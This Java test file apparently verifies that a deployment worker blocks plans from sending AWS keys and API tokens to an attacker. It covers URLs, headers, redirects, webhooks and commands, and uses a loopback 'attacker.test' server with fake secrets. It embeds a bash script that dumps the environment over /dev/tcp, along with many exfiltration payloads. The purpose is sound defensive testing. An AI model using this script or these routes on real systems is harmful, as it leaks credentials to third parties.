package dev.cutover.activities;

import static dev.cutover.activities.Fixtures.tree;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.BooleanNode;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import dev.cutover.engine.Reading;
import dev.cutover.engine.Step;
import dev.cutover.workflows.EffectRequest;
import dev.cutover.workflows.MeasureRequest;
import dev.cutover.workflows.NotifyRequest;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URLEncoder;
import java.net.UnknownHostException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.function.BiFunction;
import okhttp3.Dns;
import okhttp3.OkHttpClient;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 9, "secrets go only where the worker's operator allows": a plan tries to send the worker's
 * secrets to a server it names, by every route a plan has (URLs, headers, bodies, connections,
 * Prometheus, redirects through a legitimate host, actions, traffic and flag calls, the webhook,
 * command arguments and environment), under both a default-deny host policy and one that allows the
 * attacker's host. The attacker is a real HTTP server on loopback that records every byte it
 * receives. The secrets: one the worker does not allow (AWS_SECRET_ACCESS_KEY), one it allows only
 * towards its own host (FLAG_TOKEN@flags.internal) and a setting of the worker itself
 * (TEMPORAL_API_KEY). None reaches the attacker, in any encoding, nor any message. Two controls
 * prove the harness sees what it should: the bound token does reach its own host, and a token the
 * operator allows everywhere (their choice) does reach an allowed host.
 */
class ExfiltrationTest {
  private static final Map<String, String> FORBIDDEN =
      Map.of(
          "AWS_SECRET_ACCESS_KEY", "aws-exfil-s3cret-7f3e9c1d",
          "FLAG_TOKEN", "flag-exfil-t0ken-51c2",
          "TEMPORAL_API_KEY", "temporal-exfil-key-9a8b");
  private static final String OPEN = "open-allowed-t0ken-3d4e";

  private static HttpServer attacker;
  private static HttpServer flags;
  private static final List<String> atAttacker = Collections.synchronizedList(new ArrayList<>());
  private static final List<String> atFlags = Collections.synchronizedList(new ArrayList<>());

  @TempDir static Path dir;
  private static Path send;

  @BeforeAll
  static void start() throws IOException {
    attacker = recording(atAttacker, null);
    // A legitimate flag API (flags.internal), whose redirects point at the attacker.
    flags =
        recording(
            atFlags,
            exchange -> {
              String path = exchange.getRequestURI().getPath();
              if (path.startsWith("/redirect/")) {
                exchange
                    .getResponseHeaders()
                    .add(
                        "Location",
                        "http://attacker.test:" + attacker.getAddress().getPort() + "/steal");
                return Integer.parseInt(path.substring("/redirect/".length()));
              }
              return 200;
            });
    // A program the worker allows, with any arguments, that sends what it gets to the attacker.
    send = dir.resolve("send");
    Files.writeString(
        send,
        """
        #!/bin/bash
        exec 3<>/dev/tcp/127.0.0.1/%d
        printf 'GET /cmd?args=%%s&env=%%s HTTP/1.0\\r\\n\\r\\n' "$*" "$(env | tr '\\n' ' ')" >&3
        cat <&3 > /dev/null
        """
            .formatted(attacker.getAddress().getPort()));
    Files.setPosixFilePermissions(send, PosixFilePermissions.fromString("rwx------"));
  }

  interface Respond {
    int status(HttpExchange exchange);
  }

  /** A loopback HTTP server recording method, URI, headers and body of every request. */
  private static HttpServer recording(List<String> into, Respond respond) throws IOException {
    HttpServer s = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    s.createContext(
        "/",
        exchange -> {
          StringBuilder r =
              new StringBuilder(
                  exchange.getRequestMethod() + " " + exchange.getRequestURI() + "\n");
          exchange
              .getRequestHeaders()
              .forEach((k, v) -> r.append(k).append(": ").append(v).append('\n'));
          r.append(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
          into.add(r.toString());
          int status = respond == null ? 200 : respond.status(exchange);
          byte[] body =
              "{\"value\": 10, \"status\": \"success\", \"data\": {\"resultType\": \"scalar\", \"result\": [0, \"1\"]}}"
                  .getBytes(StandardCharsets.UTF_8);
          exchange.sendResponseHeaders(status, body.length);
          exchange.getResponseBody().write(body);
          exchange.close();
        });
    s.start();
    return s;
  }

  @AfterAll
  static void stop() {
    attacker.stop(0);
    flags.stop(0);
  }

  private static final Dns NAMES =
      host ->
          switch (host) {
            case "attacker.test", "flags.internal" ->
                List.of(InetAddress.getByAddress(host, new byte[] {127, 0, 0, 1}));
            default -> throw new UnknownHostException(host);
          };

  private static CutoverActivitiesImpl worker(boolean attackerAllowed) {
    Map<String, String> env = new HashMap<>(FORBIDDEN);
    env.put("OPEN_TOKEN", OPEN);
    env.put("PATH", "/usr/bin:/bin");
    env.put(Secrets.ALLOWED, "FLAG_TOKEN@flags.internal, OPEN_TOKEN");
    env.put(Commands.ALLOWED, send + " *");
    if (attackerAllowed) {
      env.put(HostPolicy.VARIABLE, "127.0.0.1,attacker.test,flags.internal");
    }
    return new CutoverActivitiesImpl(
        Fixtures.settings(env),
        Duration.ofSeconds(3),
        new OkHttpClient.Builder().dns(NAMES).build());
  }

  /** One way of sending {@code ref} somewhere: runs it and returns what the worker said. */
  private record Vector(String name, BiFunction<CutoverActivitiesImpl, String, String> run) {}

  private static String a() {
    return "http://127.0.0.1:" + attacker.getAddress().getPort();
  }

  private static String f() {
    return "http://flags.internal:" + flags.getAddress().getPort();
  }

  private static String check(
      CutoverActivitiesImpl w, String yaml, Map<String, JsonNode> connections) {
    List<Reading> r =
        w.measure(
            new MeasureRequest(
                "cutover-exfil",
                List.of(new MeasureRequest.CheckSpec("leak", tree(yaml), connections))));
    return r.toString();
  }

  private static String apply(
      CutoverActivitiesImpl w,
      Step.Kind kind,
      JsonNode traffic,
      JsonNode flagsApi,
      JsonNode action,
      Map<String, JsonNode> connections) {
    Step step =
        switch (kind) {
          case TRAFFIC -> new Step(kind, 0, 0, 10, null, "stage-0/traffic");
          case FLAGS -> new Step(kind, 0, 0, null, Map.of("v2", BooleanNode.TRUE), "stage-0/flags");
          default -> new Step(kind, 0, 0, null, null, "stage-0/actions/0");
        };
    try {
      return w.apply(
          new EffectRequest(
              "cutover-exfil",
              "cutover-exfil/" + step.key(),
              "canary",
              step,
              traffic,
              flagsApi,
              action,
              connections));
    } catch (RuntimeException e) {
      return e.getMessage();
    }
  }

  private static Map<String, JsonNode> conn(String yaml) {
    return Map.of("c", tree(yaml));
  }

  static List<Vector> vectors() {
    return List.of(
        new Vector(
            "check URL query",
            (w, ref) ->
                check(
                    w,
                    "http: GET " + a() + "/q?k=" + ref + "\nexpect: { status: 200 }\n",
                    Map.of())),
        new Vector(
            "check URL path",
            (w, ref) ->
                check(w, "http: GET " + a() + "/" + ref + "\nexpect: { status: 200 }\n", Map.of())),
        new Vector(
            "check URL user info",
            (w, ref) ->
                check(
                    w,
                    "http: GET http://"
                        + ref
                        + "@127.0.0.1:"
                        + attacker.getAddress().getPort()
                        + "/\nexpect: { status: 200 }\n",
                    Map.of())),
        new Vector(
            "check URL host",
            (w, ref) ->
                check(
                    w,
                    "http: GET http://"
                        + ref
                        + ".attacker.test:"
                        + attacker.getAddress().getPort()
                        + "/\nexpect: { status: 200 }\n",
                    Map.of())),
        new Vector(
            "check header",
            (w, ref) ->
                check(
                    w,
                    "http: GET "
                        + a()
                        + "/h\nheaders: { X-Leak: \""
                        + ref
                        + "\" }\nexpect: { status: 200 }\n",
                    Map.of())),
        new Vector(
            "check body",
            (w, ref) ->
                check(
                    w,
                    "http: POST " + a() + "/b\nbody: \"" + ref + "\"\nexpect: { status: 200 }\n",
                    Map.of())),
        new Vector(
            "connection header",
            (w, ref) ->
                check(
                    w,
                    "http: GET c:/c\nexpect: { status: 200 }\n",
                    conn(
                        "http: "
                            + a()
                            + "\nheaders: { Authorization: \"Bearer "
                            + ref
                            + "\" }\n"))),
        new Vector(
            "connection URL",
            (w, ref) ->
                check(
                    w,
                    "http: GET c:/x\nexpect: { status: 200 }\n",
                    conn("http: \"" + a() + "/" + ref + "\"\n"))),
        new Vector(
            "whole-URL reference",
            (w, ref) ->
                check(
                    w,
                    "http: GET c:/x\nexpect: { status: 200 }\n",
                    conn("http: \"" + ref + "\"\n"))),
        new Vector(
            "prometheus URL",
            (w, ref) ->
                check(
                    w,
                    "prometheus: c\nquery: up\npass: '== 1'\n",
                    conn("prometheus: \"" + a() + "/" + ref + "\"\n"))),
        new Vector(
            "prometheus header",
            (w, ref) ->
                check(
                    w,
                    "prometheus: c\nquery: up\npass: '== 1'\n",
                    conn(
                        "prometheus: "
                            + a()
                            + "\nheaders: { Authorization: \"Bearer "
                            + ref
                            + "\" }\n"))),
        new Vector(
            "redirect 302 with the secret in a header",
            (w, ref) ->
                check(
                    w,
                    "http: GET "
                        + f()
                        + "/redirect/302\nheaders: { X-Leak: \""
                        + ref
                        + "\" }\nfollowRedirects: true\nexpect: { status: 200 }\n",
                    Map.of())),
        new Vector(
            "redirect 307 with the secret in the body",
            (w, ref) ->
                apply(
                    w,
                    Step.Kind.ACTION,
                    null,
                    null,
                    tree(
                        "http: POST "
                            + f()
                            + "/redirect/307\nbody: \""
                            + ref
                            + "\"\nfollowRedirects: true\n"),
                    Map.of())),
        new Vector(
            "action URL",
            (w, ref) ->
                apply(
                    w,
                    Step.Kind.ACTION,
                    null,
                    null,
                    tree("http: POST " + a() + "/act?k=" + ref + "\n"),
                    Map.of())),
        new Vector(
            "action header",
            (w, ref) ->
                apply(
                    w,
                    Step.Kind.ACTION,
                    null,
                    null,
                    tree("http: POST " + a() + "/act\nheaders: { X-Leak: \"" + ref + "\" }\n"),
                    Map.of())),
        new Vector(
            "action body",
            (w, ref) ->
                apply(
                    w,
                    Step.Kind.ACTION,
                    null,
                    null,
                    tree("http: POST " + a() + "/act\nbody: '{\"k\": \"" + ref + "\"}'\n"),
                    Map.of())),
        new Vector(
            "action whole-URL reference",
            (w, ref) ->
                apply(
                    w,
                    Step.Kind.ACTION,
                    null,
                    null,
                    tree("http: \"POST " + ref + "\"\n"),
                    Map.of())),
        new Vector(
            "traffic URL",
            (w, ref) ->
                apply(
                    w,
                    Step.Kind.TRAFFIC,
                    tree(
                        "set: { http: \"PUT "
                            + a()
                            + "/t/"
                            + ref
                            + "\", body: '{\"value\": ${percent}}' }\n"),
                    null,
                    null,
                    Map.of())),
        new Vector(
            "traffic header and body",
            (w, ref) ->
                apply(
                    w,
                    Step.Kind.TRAFFIC,
                    tree(
                        "set: { http: \"PUT "
                            + a()
                            + "/t\", headers: { X-Leak: \""
                            + ref
                            + "\" }, body: '{\"value\": ${percent}, \"k\": \""
                            + ref
                            + "\"}' }\n"),
                    null,
                    null,
                    Map.of())),
        new Vector(
            "flags body",
            (w, ref) ->
                apply(
                    w,
                    Step.Kind.FLAGS,
                    null,
                    tree(
                        "set: { http: \"PUT "
                            + a()
                            + "/f/${flag}\", body: '{\"value\": ${value}, \"k\": \""
                            + ref
                            + "\"}' }\n"),
                    null,
                    Map.of())),
        new Vector("webhook URL", (w, ref) -> notify(w, a() + "/hook/" + ref)),
        new Vector("webhook whole reference", (w, ref) -> notify(w, ref)),
        new Vector(
            "command argument",
            (w, ref) ->
                apply(
                    w,
                    Step.Kind.ACTION,
                    null,
                    null,
                    tree("command: [" + send + ", \"" + ref + "\"]\n"),
                    Map.of())),
        new Vector(
            "command env",
            (w, ref) ->
                apply(
                    w,
                    Step.Kind.ACTION,
                    null,
                    null,
                    tree("command: [" + send + "]\nenv: { LEAK: \"" + ref + "\" }\n"),
                    Map.of())));
  }

  private static String notify(CutoverActivitiesImpl w, String webhook) {
    w.notifyPeople(new NotifyRequest("cutover-exfil", webhook, "warn", "hello"));
    return "";
  }

  /** Every form a value could take on the wire: as is, URL-encoded, base64. */
  private static List<String> forms(String value) {
    return List.of(
        value,
        URLEncoder.encode(value, StandardCharsets.UTF_8),
        Base64.getEncoder().encodeToString(value.getBytes(StandardCharsets.UTF_8)));
  }

  @Test
  void noPlanGetsASecretTheOperatorDidNotAllowItToTheAttackersServer() {
    List<Vector> vectors = vectors();
    List<String> said = new ArrayList<>();
    int tried = 0;
    for (boolean attackerAllowed : new boolean[] {false, true}) {
      try (CutoverActivitiesImpl w = worker(attackerAllowed)) {
        for (Vector v : vectors) {
          for (String name : FORBIDDEN.keySet()) {
            said.add(v.name() + " / " + name + " / " + v.run().apply(w, "${env:" + name + "}"));
            tried++;
          }
        }
      }
    }

    int received = 0;
    for (String value : FORBIDDEN.values()) {
      for (String form : forms(value)) {
        received += (int) atAttacker.stream().filter(r -> r.contains(form)).count();
        assertThat(said).as("no message holds %s", value).noneMatch(s -> s.contains(form));
      }
    }
    System.out.printf(
        "exfiltration attempts tried: %d (%d routes x %d secrets x 2 host policies);"
            + " requests the attacker's server got: %d; secrets it received: %d%n",
        tried, vectors.size(), FORBIDDEN.size(), atAttacker.size(), received);
    assertThat(tried).isEqualTo(vectors.size() * FORBIDDEN.size() * 2);
    assertThat(received).isZero();
    // The attacker was reachable (allowed policy): requests carrying no secret did arrive.
    assertThat(atAttacker).isNotEmpty();
  }

  @Test
  void theBoundTokenReachesItsOwnHostAndAnOpenTokenReachesAnAllowedHostTheControls() {
    try (CutoverActivitiesImpl w = worker(true)) {
      String own =
          check(
              w,
              "http: GET "
                  + f()
                  + "/ok\nheaders: { Authorization: \"Bearer ${env:FLAG_TOKEN}\" }\n"
                  + "expect: { status: 200 }\n",
              Map.of());
      String open =
          check(
              w,
              "http: GET "
                  + a()
                  + "/open\nheaders: { X-Open: \"${env:OPEN_TOKEN}\" }\n"
                  + "expect: { status: 200 }\n",
              Map.of());

      String program =
          apply(
              w,
              Step.Kind.ACTION,
              null,
              null,
              tree("command: [" + send + ", open]\nenv: { LEAK: \"${env:OPEN_TOKEN}\" }\n"),
              Map.of());

      assertThat(own).contains("kind=VALUE").doesNotContain(FORBIDDEN.get("FLAG_TOKEN"));
      assertThat(open).contains("kind=VALUE");
      assertThat(program).contains("-> exit 0");
    }
    assertThat(atFlags).anyMatch(r -> r.contains("Bearer " + FORBIDDEN.get("FLAG_TOKEN")));
    assertThat(atAttacker).anyMatch(r -> r.startsWith("GET /open") && r.contains(OPEN));
    // A program holds what it is given: an unbound secret handed to it can go anywhere it likes.
    assertThat(atAttacker)
        .anyMatch(r -> r.startsWith("GET /cmd?args=open") && r.contains("LEAK=" + OPEN));
  }
}
